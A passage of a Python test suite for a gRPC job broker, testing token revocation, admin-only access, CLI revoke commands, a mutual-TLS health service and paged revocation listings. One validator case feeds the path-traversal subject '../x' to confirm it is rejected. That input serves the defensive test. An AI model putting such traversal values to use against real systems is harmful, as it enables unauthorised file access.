            assert not already and (revoked.subject, revoked.role) == ("carol", "user")
            admin.revoke_token("node compromised", certificate_pem=certificate_pem([glidein.certificate]))
            with pytest.raises(AccessDenied) as at_once:
                carol_a.list()
            assert at_once.value.code is grpc.StatusCode.UNAUTHENTICATED

            def refused(call):
                try:
                    call()
                except AccessDenied as exc:
                    return exc
                return None
            for call, reason in ((carol_b.list, "laptop stolen"),
                                 (lambda: agent_b.pilot_heartbeat("pilot-r", "node"), "node compromised")):
                error = wait_for(lambda c=call: refused(c), 30, f"broker B to refuse the token revoked for {reason}")
                assert error.code is grpc.StatusCode.UNAUTHENTICATED
                assert "was revoked at" in error.details and f"({reason}); fix: ask for a new token" in error.details
            # Only those certificates: another token of Carol's still works on both brokers.
            with BrokerClient(b.address, ca.new_token(TokenRole.USER, "carol")) as fresh:
                assert fresh.list().jobs == []
            assert [r.reason for r in admin.list_revoked()] == ["laptop stolen", "node compromised"]
    finally:
        b.stop()
        a.stop()


def test_revocation_is_for_admins_and_says_what_it_needs(sqlite_server, tokens, ca):
    server = sqlite_server
    channel = user_channel(server, tokens.alice)
    try:
        error = refusal(rpc_pb.AdminServiceStub(channel).RevokeToken,
                        pb.RevokeTokenRequest(serial="1", reason="x"), timeout=30)
        assert error.code() is grpc.StatusCode.PERMISSION_DENIED and "admin token" in error.details()
    finally:
        channel.close()
    dave = ca.new_token(TokenRole.USER, "dave")
    with AdminClient(server.address, tokens.admin) as admin, BrokerClient(server.address, dave) as dave_client:
        never_used = f"{dave.certificate.serial_number:x}"
        with pytest.raises(NotFound) as info:
            admin.revoke_token("lost", serial=never_used)
        assert f"no token with serial {never_used} has been used with this broker" in info.value.details
        assert "fix: revoke it with its certificate (--token-file FILE" in info.value.details
        for kwargs, words in (({"serial": "xyz"}, "not a hexadecimal certificate serial"),
                              ({"subject": "dave", "role": "host"}, "is not one of"),
                              ({"subject": "../x", "role": "user"}, "not a valid name"),
                              ({"certificate_pem": b"garbage"}, "no PEM certificate"),
                              ({"certificate_pem": certificate_pem([CertificateAuthority.create().new_token(
                                  TokenRole.USER, "dave").certificate])}, "fix: send the certificate of a token")):
            with pytest.raises(InvalidRequest, match=words):
                admin.revoke_token("lost", **kwargs)
        with pytest.raises(InvalidRequest, match="reason must be"):
            admin.revoke_token("  ", serial="1")
        assert admin.list_revoked() == []  # nothing was recorded by the refused calls
        assert dave_client.list().jobs == []  # dave's certificate is seen now (noted by this broker)
        revoked, already = admin.revoke_token("left the project", serial=never_used)
        assert not already and admin.revoke_token("again", serial=never_used)[1] is True
        with pytest.raises(AccessDenied) as info:
            dave_client.list()
        assert info.value.code is grpc.StatusCode.UNAUTHENTICATED and "(left the project)" in info.value.details
        # Every agent token of a holder issued until now; one issued afterwards works.
        with AgentClient(server.address, tokens.agent) as agent:
            assert agent.pilot_heartbeat("p", "n").stop == []
            holder, _ = admin.revoke_token("batch leaked", subject="glidein-a", role="agent")
            with pytest.raises(AccessDenied, match="issued before every agent token of glidein-a was revoked"):
                agent.pilot_heartbeat("p", "n")
        later = ca.new_token(TokenRole.AGENT, "glidein-a", site="SITE-A", queue="default",
                             now=holder.revoked + datetime.timedelta(seconds=1))
        with AgentClient(server.address, later) as agent:
            assert agent.pilot_heartbeat("p2", "n").stop == []


def test_token_revoke_and_revoked_commands(sqlite_server, tokens, ca, tmp_path):
    server = sqlite_server
    admin_file, erin_file = tmp_path / "admin.pem", tmp_path / "erin.pem"
    write_private(str(admin_file), tokens.admin.to_pem())
    erin = ca.new_token(TokenRole.USER, "erin")
    write_private(str(erin_file), erin.to_pem())
    connection = ("--broker", server.address, "--token", str(admin_file))
    result = run_cli("token", "revoke", *connection, "--token-file", str(erin_file), "--reason", "phished")
    assert result.returncode == 0, result.stderr
    assert f"revoked: token serial {erin.certificate.serial_number:x} (user erin)" in result.stdout
    with BrokerClient(server.address, erin) as client:
        with pytest.raises(AccessDenied, match="phished"):
            client.list()
    listing = run_cli("token", "revoked", *connection, "--json")
    assert listing.returncode == 0, listing.stderr
    [entry] = json.loads(listing.stdout)
    assert (entry["serial"], entry["subject"], entry["role"], entry["reason"], entry["revoked_by"]) == (
        f"{erin.certificate.serial_number:x}", "erin", "user", "phished", "root")
    table = run_cli("token", "revoked", *connection)
    assert table.returncode == 0 and "phished" in table.stdout
    half = run_cli("token", "revoke", *connection, "--subject", "erin", "--reason", "x")
    assert half.returncode == 2 and "--subject and --role go together" in half.stderr
    unknown = run_cli("token", "revoke", *connection, "--serial", "abc123", "--reason", "x")
    assert unknown.returncode == 1 and "fix: revoke it with its certificate" in unknown.stderr
    as_user = tmp_path / "alice.pem"
    write_private(str(as_user), tokens.alice.to_pem())
    denied = run_cli("token", "revoked", "--broker", server.address, "--token", str(as_user))
    assert denied.returncode == 1 and "PERMISSION_DENIED" in denied.stderr


# ------------------------------------------------------------------ 8. the health service

def health_check(server: BrokerServer, token, service: str = "") -> int:
    """grpc.health.v1.Health/Check over the broker's mutual TLS with TOKEN: the serving status."""
    credentials = grpc.ssl_channel_credentials(server.ca_pem, private_key_pem(token.key),
                                               certificate_pem(list(token.chain[:1])))
    with grpc.secure_channel(server.address, credentials) as channel:
        return health_pb2_grpc.HealthStub(channel).Check(health_pb2.HealthCheckRequest(service=service),
                                                         timeout=30).status


def health_refusal(server: BrokerServer, token, channel_credentials=None) -> grpc.RpcError:
    credentials = channel_credentials or grpc.ssl_channel_credentials(
        server.ca_pem, private_key_pem(token.key), certificate_pem(list(token.chain[:1])))
    with grpc.secure_channel(server.address, credentials) as channel, pytest.raises(grpc.RpcError) as info:
        health_pb2_grpc.HealthStub(channel).Check(health_pb2.HealthCheckRequest(), timeout=30)
    return info.value


def test_health_answers_client_tokens_only_under_the_same_mutual_tls(sqlite_server, ca, tokens):
    """Every client role gets SERVING for the server and each broker service; an unknown service is
    NOT_FOUND. A peer without a certificate, with another CA's, or with the broker's own host token
    fails the handshake; a revoked token is refused by name, like on every other service."""
    server = sqlite_server
    job = ca.new_token(TokenRole.JOB, "alice", job_id=7, attempt=1)
    for token in (tokens.alice, tokens.admin, tokens.agent, job):
        assert health_check(server, token) == SERVING
    for service in ("splitpilot.broker.v1.UserService", "splitpilot.broker.v1.AgentService",
                    "splitpilot.broker.v1.JobService", "splitpilot.broker.v1.AdminService"):
        assert health_check(server, tokens.alice, service) == SERVING
    with pytest.raises(grpc.RpcError) as info:
        health_check(server, tokens.alice, "grpc.reflection.v1.ServerReflection")
    assert info.value.code() is grpc.StatusCode.NOT_FOUND
    no_certificate = grpc.ssl_channel_credentials(server.ca_pem)
    stranger = CertificateAuthority.create().new_token(TokenRole.ADMIN, "root")
    host = ca.new_token(TokenRole.HOST, "localhost", dns_names=["localhost"], ip_addresses=["127.0.0.1"])
    for refused in (health_refusal(server, None, no_certificate), health_refusal(server, stranger),
                    health_refusal(server, host)):
        assert refused.code() is grpc.StatusCode.UNAVAILABLE
    mallory = ca.new_token(TokenRole.USER, "mallory")
    assert health_check(server, mallory) == SERVING
    with AdminClient(server.address, tokens.admin) as admin:
        admin.revoke_token("laptop stolen", certificate_pem=certificate_pem([mallory.certificate]))
    refused = health_refusal(server, mallory)
    assert refused.code() is grpc.StatusCode.UNAUTHENTICATED
    assert "was revoked at" in refused.details() and "(laptop stolen); fix: ask for a new token" in refused.details()
    samples = server.render_metrics().splitlines()
    assert 'splitpilot_rpc_requests_total{code="UNAUTHENTICATED",method="Check"} 1.0' in samples


def test_health_follows_the_database_and_says_not_serving_while_stopping(tmp_path, ca_dir, tokens):
    """A private PostgreSQL server goes away: Check answers NOT_SERVING (and a Watch stream hears it)
    while user calls answer UNAVAILABLE and nothing is lost; back, SERVING again. Stopping the broker
    turns a Watch stream NOT_SERVING before the stream ends."""
    with PostgresCluster() as cluster:
        server = start_server(tmp_path, ca_dir, db_url=cluster.url())
        stopper = threading.Thread(target=server.stop)
        try:
            with BrokerClient(server.address, tokens.alice) as alice:
                job_id = alice.submit(job_pb2.JobSpec(executable="/bin/true", requirements=WALLTIME))[0]
                assert health_check(server, tokens.alice) == SERVING
                credentials = grpc.ssl_channel_credentials(server.ca_pem, private_key_pem(tokens.agent.key),
                                                           certificate_pem(list(tokens.agent.chain[:1])))
                with grpc.secure_channel(server.address, credentials) as channel:
                    watch = health_pb2_grpc.HealthStub(channel).Watch(health_pb2.HealthCheckRequest(), timeout=300)
                    assert next(watch).status == SERVING
                    cluster.pause()
                    wait_for(lambda: health_check(server, tokens.alice) == NOT_SERVING, 120,
                             "the health service to see the database gone")
                    assert next(watch).status == NOT_SERVING
                    with pytest.raises(BrokerUnavailable) as info:
                        alice.status(job_id)
                    assert info.value.code is grpc.StatusCode.UNAVAILABLE
                    cluster.resume()
                    wait_for(lambda: health_check(server, tokens.alice) == SERVING, 120,
                             "the health service to see the database back")
                    assert next(watch).status == SERVING
                    assert alice.status(job_id).state is JobState.WAITING
                    stopper.start()
                    assert next(watch).status == NOT_SERVING
                    with pytest.raises(grpc.RpcError):
                        next(watch)  # the stream ends with the server
        finally:
            if stopper.ident is not None:
                stopper.join(60)
            server.stop()


def test_a_flood_of_health_checks_cannot_become_a_flood_of_store_queries(tmp_path, ca_dir, tokens):
    """200 checks from one client: the store is asked once per min_interval (here: once), not per check."""
    server = start_server(tmp_path, ca_dir, revocation_refresh=0)  # no other reader of the probe's query
    try:
        asked = []
        real = server.store.revocation_generation
        server.store.revocation_generation = lambda: asked.append(1) or real()
        server.health.min_interval = 3600
        credentials = grpc.ssl_channel_credentials(server.ca_pem, private_key_pem(tokens.alice.key),
                                                   certificate_pem(list(tokens.alice.chain[:1])))
        with grpc.secure_channel(server.address, credentials) as channel:
            stub = health_pb2_grpc.HealthStub(channel)
            statuses = {stub.Check(health_pb2.HealthCheckRequest(), timeout=30).status for _ in range(200)}
        assert statuses == {SERVING} and len(asked) == 1
    finally:
        server.stop()


def test_revocations_are_listed_a_page_at_a_time_on_both_stores(server, tokens):
    """ListRevoked is bounded (at most 10,000 per answer, `more` says another page follows); the client
    follows the pages; a cursor past every id, even beyond the databases' integers, is an empty page."""
    with AdminClient(server.address, tokens.admin) as admin:
        reasons = [f"holder {i}" for i in range(5)]
        for reason in reasons:
            admin.revoke_token(reason, subject=f"user{reason[-1]}", role="user")
        assert [r.reason for r in admin.list_revoked(page=2)] == reasons
        assert [r.reason for r in admin.list_revoked()] == reasons
    channel = user_channel(server, tokens.admin)
    try:
        stub = rpc_pb.AdminServiceStub(channel)
        first = stub.ListRevoked(pb.ListRevokedRequest(limit=2), timeout=30)
        assert [r.reason for r in first.revoked] == reasons[:2] and first.more
        rest = stub.ListRevoked(pb.ListRevokedRequest(after_id=first.revoked[-1].id, limit=2**32 - 1), timeout=30)
        assert [r.reason for r in rest.revoked] == reasons[2:] and not rest.more
        for after in (rest.revoked[-1].id, 2**63, 2**64 - 1):
            past = stub.ListRevoked(pb.ListRevokedRequest(after_id=after), timeout=30)
            assert list(past.revoked) == [] and not past.more
    finally:
        channel.close()
